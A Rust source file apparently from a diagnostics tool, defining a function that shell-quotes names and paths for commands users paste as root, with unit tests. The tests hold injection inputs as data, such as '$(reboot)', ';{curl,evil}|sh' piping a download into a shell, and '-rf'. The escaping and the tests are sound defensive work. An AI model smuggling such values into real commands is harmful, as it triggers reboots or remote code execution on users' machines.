//! Values in the commands that a verdict tells people to paste, mostly as root.
//!
//! Names, paths and texts of rules come from configuration, from containers, from clients (a `Host` header becomes a
//! name to look up) and from recordings of others. In a command, which is what stands between backquotes, each of them
//! goes through [`word`]; in a sentence through [`crate::text::sentence`].

use crate::text::is_unsafe;

/// A value as one word of a POSIX shell: as it is, or in single quotes. `placeholder` stands for a value that cannot be
/// shown so: an empty one, one with control or invisible characters or a backquote, and one that a command would take
/// for an option (`-x`, `+x`, `@x`).
pub(crate) fn word(value: &str, placeholder: &'static str) -> String {
    let refused = value.is_empty()
        || value.starts_with(['-', '+', '@'])
        || value.chars().any(|c| c == '`' || is_unsafe(c));
    if refused {
        return placeholder.to_owned();
    }
    let plain = |c: char| {
        c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':' | '@' | '%' | '+' | ',')
    };
    if value.chars().all(plain) { value.to_owned() } else { format!("'{}'", value.replace('\'', r"'\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_values_stay() {
        for value in [
            "filter",
            "app.service",
            "getty@tty1.service",
            "/run/app.sock",
            "10.0.0.2:80",
            "eth0.7",
            "fe80::1%eth0",
        ] {
            assert_eq!(word(value, "X"), value);
        }
    }

    #[test]
    fn what_a_shell_obeys_is_quoted() {
        for (value, quoted) in [
            ("$(reboot)", "'$(reboot)'"),
            (";{curl,evil}|sh", "';{curl,evil}|sh'"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("größe", "'größe'"),
            ("~root", "'~root'"),
            ("a*", "'a*'"),
        ] {
            assert_eq!(word(value, "X"), quoted);
        }
    }

    #[test]
    fn what_cannot_be_quoted_is_not_shown() {
        for value in
            ["", "-rf", "+short", "@evil", "a`b", "a\nb", "a\u{9b}b", "a\u{202e}b", "a\u{200b}b", "a\u{7f}"]
        {
            assert_eq!(word(value, "NAME"), "NAME", "{value:?}");
        }
    }
}
